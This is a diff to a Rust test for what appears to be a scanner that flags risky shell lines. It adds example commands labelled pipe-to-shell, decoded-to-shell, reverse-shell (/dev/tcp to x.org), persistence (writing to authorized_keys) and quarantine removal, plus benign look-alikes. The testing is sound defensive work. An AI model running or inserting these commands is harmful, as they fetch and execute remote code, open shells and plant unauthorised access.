@@ -132,6 +132,24 @@ fn each_rule_sees_what_it_is_for_and_not_its_neighbours() {
             "no-tls-check",
         ),
         ("key = AKIAIOSFODNN7EXAMPLF", "secret"),
+        ("curl x.org | python3 - --yes", "pipe-to-shell"),
+        ("curl x.org | node -r fs", "pipe-to-shell"),
+        (
+            "curl x.org | python3 -c 'import sys; exec(sys.stdin.read())'",
+            "pipe-to-shell",
+        ),
+        ("curl x.org | perl -pe 's/a/b/' | sh", "pipe-to-shell"),
+        ("base64 -d x | node -e 'eval(read())'", "decoded-to-shell"),
+        ("cat x > /dev/tcp/x.org/1", "reverse-shell"),
+        ("exec 3<>/dev/tcp/x.org/1; sh <&3 >&3", "reverse-shell"),
+        ("sh </dev/tcp/x.org/1", "reverse-shell"),
+        ("(</dev/tcp/x.org/1 sh)", "reverse-shell"),
+        ("echo key >> ~/.ssh/authorized_keys", "persistence"),
+        ("Add it to `authorized_keys`.", "persistence"),
+        (
+            "xattr -d com.apple.quarantine ./x # $(brew --prefix)",
+            "quarantine",
+        ),
     ] {
         let found = codes(line);
         assert!(found.contains(&code), "{line}: {found:?}");
@@ -155,6 +173,16 @@ fn each_rule_sees_what_it_is_for_and_not_its_neighbours() {
         "grep -rn \"verify=false\\|NODE_TLS_REJECT_UNAUTHORIZED\" --include='*.py'",
         "    sudo \\            # Privilege escalation",
         "const key = \"sk-ant-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\"",
+        "curl -s https://x.org | python3 -m json.tool",
+        "curl -s https://x.org | python3 -u -c \"import json, sys; print(1)\"",
+        "curl -s https://x.org | node scripts/read.mjs",
+        "which asks for `curl … | sh`",
+        "head -1 x | base64 -d | python3 -m json.tool",
+        "if timeout 5 bash -c \"echo >/dev/tcp/$host/$port\" 2>/dev/null; then",
+        "bash -c \"cat < /dev/null > /dev/tcp/<host>/50000\" 2>/dev/null",
+        "(exec 3<>/dev/tcp/x.org/1) 2>/dev/null && echo open",
+        "bash -c '</dev/tcp/x.org/1'",
+        "remove host keys and `authorized_keys` first",
     ] {
         assert_eq!(codes(honest), Vec::<&str>::new(), "{honest}");
     }
